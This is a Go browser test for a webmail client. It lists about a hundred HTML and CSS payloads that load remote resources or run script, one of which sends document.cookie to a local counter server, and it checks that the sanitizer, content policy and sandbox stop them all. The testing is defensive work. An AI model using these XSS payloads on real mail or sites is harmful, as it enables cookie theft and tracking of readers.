package browser

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"copialettere/cmd/copialettere/e2e/rig"
	"copialettere/journal/httpd/body"
	"copialettere/policy/pec/pectest"
)

// bait is HTML that starts a script or a request in a page that nothing protects.
type bait struct {
	name string
	html string // URL stands for the address of its own counter, RUN for a script that asks for it and tells the cookies
	// asleep says that Chromium may do nothing with it by itself: others do or did, or it waits for a click.
	asleep bool
	image  bool // it loads an image where a reader has asked for images
	alone  bool // it would keep others in the same document from working
}

// baits is the table of all elements and attributes that start a script or a request.
var baits = []bait{
	{name: "img src", html: `<img src="URL">`, image: true},
	{name: "img src without quotes", html: `<img src=URL>`, image: true},
	{name: "image", html: `<image src="URL">`},
	{name: "img srcset", html: `<img srcset="URL 1x">`},
	{name: "img lowsrc", html: `<img lowsrc="URL">`, asleep: true},
	{name: "img dynsrc", html: `<img dynsrc="URL">`, asleep: true},
	{name: "picture", html: `<picture><source srcset="URL"><img alt=""></picture>`},
	{name: "input image", html: `<input type="image" src="URL">`},
	{name: "video src", html: `<video src="URL" preload="auto"></video>`},
	{name: "video poster", html: `<video poster="URL"></video>`},
	{name: "video source", html: `<video preload="auto"><source src="URL"></video>`},
	{name: "video track", html: `<video preload="auto"><track default src="URL"></video>`, asleep: true},
	{name: "audio src", html: `<audio src="URL" preload="auto"></audio>`},
	{name: "bgsound", html: `<bgsound src="URL">`, asleep: true},
	{name: "embed", html: `<embed src="URL">`},
	{name: "object", html: `<object data="URL"></object>`},
	{name: "object with type", html: `<object data="URL" type="image/png"></object>`},
	{name: "applet", html: `<applet code="x" codebase="URL"></applet>`, asleep: true},
	{name: "iframe", html: `<iframe src="URL"></iframe>`},
	{name: "iframe srcdoc", html: `<iframe srcdoc="&lt;img src='URL'&gt;"></iframe>`},
	{name: "iframe data", html: `<iframe src="data:text/html,<img src='URL'>"></iframe>`},
	{name: "iframe javascript", html: `<iframe src="javascript:parent.eval(atob('CODE'))"></iframe>`},
	{name: "frame", html: `</body><frameset><frame src="URL"></frameset>`, asleep: true, alone: true},
	{name: "portal", html: `<portal src="URL"></portal>`, asleep: true},
	{name: "link stylesheet", html: `<link rel="stylesheet" href="URL">`},
	{name: "link stylesheet in data", html: `<link rel="stylesheet" href="data:text/css,@import 'URL'">`},
	{name: "link icon", html: `<link rel="icon" href="URL">`, asleep: true},
	{name: "link preload", html: `<link rel="preload" as="image" href="URL">`},
	{name: "link imagesrcset", html: `<link rel="preload" as="image" imagesrcset="URL 1x">`},
	{name: "link prefetch", html: `<link rel="prefetch" href="URL">`},
	{name: "link modulepreload", html: `<link rel="modulepreload" href="URL">`},
	{name: "link manifest", html: `<link rel="manifest" href="URL">`, asleep: true},
	{name: "link prerender", html: `<link rel="prerender" href="URL">`, asleep: true},
	{name: "link import", html: `<link rel="import" href="URL">`, asleep: true},
	{name: "style import", html: `<style>@import "URL";</style>`},
	{name: "style background", html: `<style>.b1{background:url(URL)}</style><p class="b1">x</p>`},
	{name: "style font", html: `<style>@font-face{font-family:f1;src:url(URL)}</style><p style="font-family:f1">x</p>`},
	{name: "style attribute", html: `<p style="background-image:url(URL)">x</p>`},
	{name: "style attribute, escaped", html: `<p style="background-image:\75rl(URL)">x</p>`},
	{name: "style image-set", html: `<p style="background-image:image-set('URL' 1x)">x</p>`},
	{name: "style list", html: `<ul><li style="list-style-image:url(URL)">x</ul>`},
	{name: "style content", html: `<p style="content:url(URL)">x</p>`},
	{name: "style border", html: `<p style="border:9px solid;border-image:url(URL) 1">x</p>`},
	{name: "style mask", html: `<p style="mask-image:url(URL)">x</p>`},
	{name: "style shape", html: `<p style="float:left;shape-outside:url(URL)">x</p>`},
	{name: "style cursor", html: `<p style="cursor:url(URL),auto">x</p>`},
	{name: "style filter", html: `<p style="filter:url(URL#f)">x</p>`, asleep: true},
	{name: "style variable", html: `<p style="--u:url(URL);background:var(--u)">x</p>`},
	{name: "style binding", html: `<p style="-moz-binding:url(URL);behavior:url(URL)">x</p>`, asleep: true},
	{name: "style onload", html: `<style onload="RUN"></style>`},
	{name: "table background", html: `<table background="URL"><tr><td>x</table>`},
	{name: "td background", html: `<table><tr><td background="URL">x</table>`},
	{name: "svg image", html: `<svg><image href="URL" width="9" height="9"/></svg>`},
	{name: "svg image xlink", html: `<svg><image xlink:href="URL" width="9" height="9"/></svg>`},
	{name: "svg feImage", html: `<svg><filter id="f2"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#f2)"/></svg>`},
	{name: "svg use", html: `<svg><use href="URL#x"/></svg>`, asleep: true},
	{name: "svg style", html: `<svg><style>@import "URL";</style></svg>`},
	{name: "svg fill", html: `<svg><rect width="9" height="9" fill="url(URL#x)"/></svg>`},
	{name: "svg script", html: `<svg><script href="URL"></script></svg>`},
	{name: "svg onload", html: `<svg onload="RUN"></svg>`},
	{name: "svg animate", html: `<svg><animate attributeName="x" dur="1s" begin="0s" onbegin="RUN"/></svg>`},
	{name: "svg set", html: `<svg><image width="9" height="9"><set attributeName="href" to="URL"/></image></svg>`},
	{name: "svg foreignObject", html: `<svg><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="URL"></foreignObject></svg>`, image: true},
	{name: "svg in an image", html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>">`, asleep: true},
	{name: "math", html: `<math><mtext><img src="URL"></mtext></math>`, image: true},
	{name: "math href", html: `<math href="javascript:RUN">x</math>`, asleep: true},
	{name: "meta refresh", html: `<meta http-equiv="refresh" content="0; url=URL">`, alone: true},
	{name: "meta cookie", html: `<meta http-equiv="set-cookie" content="a=URL">`, asleep: true},
	{name: "base", html: `<base href="URL/"><img src="relative">`, alone: true},
	{name: "script", html: `<script>RUN</script>`},
	{name: "script src", html: `<script src="URL"></script>`},
	{name: "script module", html: `<script type="module">import "URL"</script>`},
	{name: "script rules", html: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["URL"],"eagerness":"immediate"}]}</script>`, asleep: true},
	{name: "script in a comment of old", html: `<!--[if IE]><img src="URL"><![endif]-->`, asleep: true},
	{name: "img onerror", html: `<img src="x:" onerror="RUN">`},
	{name: "img onload", html: `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="RUN">`},
	{name: "body onload", html: `<body onload="RUN">`},
	{name: "body onpageshow", html: `<body onpageshow="RUN">`},
	{name: "iframe onload", html: `<iframe onload="RUN"></iframe>`},
	{name: "object onerror", html: `<object data="x:" onerror="RUN"></object>`, asleep: true},
	{name: "video onerror", html: `<video><source onerror="RUN" src="x:"></video>`},
	{name: "audio onerror", html: `<audio src="x:" onerror="RUN"></audio>`},
	{name: "details ontoggle", html: `<details open ontoggle="RUN">x</details>`},
	{name: "input onfocus", html: `<input autofocus onfocus="RUN">`},
	{name: "animation", html: `<style>@keyframes k1{from{left:0}}</style><p style="animation:k1 .1s" onanimationstart="RUN">x</p>`},
	{name: "marquee onstart", html: `<marquee onstart="RUN">x</marquee>`, asleep: true},
	{name: "p onclick", html: `<p onclick="RUN">x</p>`, asleep: true},
	{name: "a href javascript", html: `<a href="javascript:RUN">x</a>`, asleep: true},
	{name: "a ping", html: `<a href="#" ping="URL">x</a>`, asleep: true},
	{name: "a attributionsrc", html: `<img attributionsrc="URL" alt="">`, asleep: true},
	{name: "form", html: `<form action="URL"><button>x</button></form>`, asleep: true},
	{name: "button formaction", html: `<form><button formaction="URL">x</button></form>`, asleep: true},
	{name: "isindex", html: `<isindex action="URL">`, asleep: true},
	{name: "template with a shadow", html: `<div><template shadowrootmode="open"><img src="URL"></template></div>`, image: true},
	{name: "noscript", html: `<noscript><img src="URL"></noscript>`, asleep: true},
	{name: "noscript that ends in an attribute", html: `<noscript><p title="</noscript><img src='URL'>"></noscript>`, image: true},
	{name: "textarea that ends in an attribute", html: `<textarea><p title="</textarea><img src='URL'>"></textarea>`, image: true},
	{name: "style that ends in an attribute", html: `<svg><style><p title="</style><img src='URL'>"></style></svg>`, image: true},
	{name: "comment that ends early", html: `<!--><img src="URL">-->`, image: true, alone: true},
	{name: "CDATA", html: `<svg><![CDATA[><img src="URL">]]></svg>`, image: true},
	{name: "processing instruction", html: `<?xml-stylesheet href="URL"?>`, asleep: true},
	{name: "an element that nobody knows", html: `<x-y src="URL" onclick="RUN" style="background:url(URL)">x</x-y>`},
}

// trap counts the requests that baits start.
type trap struct {
	origin string
	mu     sync.Mutex
	hits   map[string]int // by the number of the bait; guarded by mu
	told   []string       // queries with cookies; guarded by mu
}

func newTrap(t *testing.T) *trap {
	tr := &trap{hits: make(map[string]int)}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		number, _, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/hit/"), "/")
		tr.mu.Lock()
		tr.hits[number]++
		if cookies := r.URL.Query().Get("c"); cookies != "" {
			tr.told = append(tr.told, cookies)
		}
		tr.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cache-Control", "no-store")
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(s.Close)
	tr.origin = s.URL
	return tr
}

// reset forgets all hits.
func (tr *trap) reset() {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	clear(tr.hits)
	tr.told = nil
}

// caught returns the names of the baits that were taken, and whether cookies came with them.
func (tr *trap) caught() (names []string, cookies bool) {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	for i, b := range baits {
		if tr.hits[fmt.Sprint(i)] > 0 {
			names = append(names, b.name)
		}
	}
	return names, len(tr.told) > 0
}

// documents returns the HTML of all baits: first those that can be together.
func (tr *trap) documents() []string {
	list := []string{""}
	for i, b := range baits {
		address := fmt.Sprintf("%s/hit/%d", tr.origin, i)
		run := fmt.Sprintf("window.pwned=1;document.title='pwned';new Image().src='%s?c='+encodeURIComponent(document.cookie)", address)
		html := strings.NewReplacer("URL", address, "RUN", run, "CODE", base64.StdEncoding.EncodeToString([]byte(run))).Replace(b.html) + "\n"
		if b.alone {
			list = append(list, html)
		} else {
			list[0] += html
		}
	}
	return list
}

// awaken waits until the bait of a document of its own is taken, if it may be: it may lead away from the page.
func (tr *trap) awaken(t *testing.T, document int) {
	t.Helper()
	for i, b := range baits {
		if !b.alone {
			continue
		}
		if document--; document == 0 && !b.asleep {
			rig.Wait(t, patience, "the bait "+b.name, func() bool {
				tr.mu.Lock()
				defer tr.mu.Unlock()
				return tr.hits[fmt.Sprint(i)] > 0
			})
		}
	}
}

// sentinel waits until the browser has done all that it meant to do: it opens a page in another tab, whose image is asked for last.
func (tr *trap) sentinel(x *tab, fence string) {
	x.testing.Helper()
	x.do(chromedp.Navigate(fence))
	rig.Wait(x.testing, patience, "the image of the last page", func() bool {
		tr.mu.Lock()
		defer tr.mu.Unlock()
		return tr.hits["sentinel"] > 0
	})
}

// testHostileMail shows mail with every bait. No script runs and nothing is asked for; with images allowed, only images are. The same holds without the
// sanitizer, under the policy and the sandbox alone; and with none of the three, the baits work, which shows that the counters do.
func testHostileMail(t *testing.T, s *site) {
	tr := newTrap(t)
	own := newUnprotected(t, tr)
	x, fence := s.newTab(t, look{}), s.newTab(t, look{})
	t.Run("unprotected", func(t *testing.T) {
		tr.reset()
		for i := range tr.documents() {
			// Each has a tab of its own: what leads away from the page would break off the way to the next one.
			y := s.newTab(t, look{})
			y.forgive()
			y.do(chromedp.Navigate(fmt.Sprintf("%s/bare/%d", own, i)))
			if i > 0 {
				tr.awaken(t, i)
			}
		}
		tr.sentinel(fence, own+"/sentinel")
		names, cookies := tr.caught()
		for _, b := range baits {
			if !b.asleep && !slices.Contains(names, b.name) {
				t.Errorf("the bait %q does nothing here", b.name)
			}
		}
		if !cookies {
			t.Error("no script told a cookie")
		}
	})
	t.Run("policy and sandbox alone", func(t *testing.T) {
		for _, page := range []string{"frame", "top"} {
			for _, images := range []bool{false, true} {
				tr.reset()
				y := s.newTab(t, look{})
				y.forgive()
				for i := range tr.documents() {
					y.do(chromedp.Navigate(fmt.Sprintf("%s/%s/%d?images=%v", own, page, i, images)))
					y.unharmed(fmt.Sprintf("%s %d", page, i))
				}
				tr.sentinel(fence, own+"/sentinel")
				names, cookies := tr.caught()
				if cookies || !images && len(names) > 0 {
					t.Errorf("%s: taken: %q, cookies: %v", page, names, cookies)
				}
				if images && len(names) == 0 {
					t.Errorf("%s: no image was loaded", page)
				}
			}
		}
	})
	t.Run("mail", func(t *testing.T) {
		x.testing = t
		x.signIn(luisa)
		for i, html := range tr.documents() {
			path := s.deliverHTML(t, luisa, html)
			tr.reset()
			for _, page := range []string{"", "/print"} {
				x.open(path + page)
				x.unharmed(fmt.Sprint(i, page))
			}
			tr.sentinel(fence, own+"/sentinel")
			if names, cookies := tr.caught(); len(names) > 0 || cookies {
				t.Errorf("%d: taken: %q, cookies: %v", i, names, cookies)
			}
			tr.reset()
			x.open(path + "?images=1")
			x.unharmed(fmt.Sprint(i, " with images"))
			tr.sentinel(fence, own+"/sentinel")
			names, cookies := tr.caught()
			if cookies || i == 0 && len(names) == 0 || slices.ContainsFunc(names, func(name string) bool { return !isImage(name) }) {
				t.Errorf("%d, with images: taken: %q, cookies: %v", i, names, cookies)
			}
		}
	})
}

func isImage(name string) bool {
	return slices.ContainsFunc(baits, func(b bait) bool { return b.name == name && b.image })
}

// unharmed fails if a script ran in the page.
func (x *tab) unharmed(name string) {
	x.testing.Helper()
	pwned, err := evaluate[bool](x, `window.pwned !== undefined || document.title.includes("pwned")`)
	if err != nil || pwned {
		x.testing.Errorf("%s: a script ran: %v, %v", name, pwned, err)
	}
}

// deliverHTML brings a letter in HTML to a mailbox, and returns the path of its page.
func (s *site) deliverHTML(t *testing.T, to, html string) string {
	t.Helper()
	text := fmt.Sprintf("From: x@ext.test\nTo: %s\nSubject: HTML\nMessage-ID: <%d@ext.test>\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<html><body>%s</body></html>\n",
		to, time.Now().UnixNano(), html)
	s.carry(t, pectest.Step{Name: "HTML", From: "x@ext.test", To: []string{to}, Message: []byte(strings.ReplaceAll(text, "\n", "\r\n"))})
	var last struct {
		Folder string `json:"folder"`
		UID    uint32 `json:"uid"`
	}
	lines := strings.Split(strings.TrimSpace(string(s.hook.Must(t, "list", to, "-json"))), "\n")
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &last); err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("/mailbox/%s/messages/%s/%d", to, url.PathEscape(last.Folder), last.UID)
}

// newUnprotected serves each document without the sanitizer: /bare/N without any protection; /top/N under the policy of a body; /frame/N in a page with an
// iframe as the pages have it. It returns its origin.
func newUnprotected(t *testing.T, tr *trap) string {
	documents := tr.documents()
	document := func(w http.ResponseWriter, r *http.Request) {
		var i int
		fmt.Sscan(r.PathValue("n"), &i)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!DOCTYPE html><html><head><title>mail</title></head><body>%s</body></html>", documents[i])
	}
	protected := func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("Content-Security-Policy", body.ContentPolicy(r.FormValue("images") == "true"))
		h.Set("X-Content-Type-Options", "nosniff")
		h.Set("Referrer-Policy", "no-referrer")
		document(w, r)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /bare/{n}", func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "secret", Value: "cookie"})
		document(w, r)
	})
	mux.HandleFunc("GET /top/{n}", protected)
	mux.HandleFunc("GET /frame/{n}", func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "secret", Value: "cookie"})
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!DOCTYPE html><title>page</title><iframe src="/top/%s?images=%s" sandbox="%s" referrerpolicy="no-referrer"></iframe>`, r.PathValue("n"), r.FormValue("images"), body.Sandbox)
	})
	mux.HandleFunc("GET /sentinel", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!DOCTYPE html><title>sentinel</title><img src="%s/hit/sentinel">`, tr.origin)
	})
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	return server.URL
}
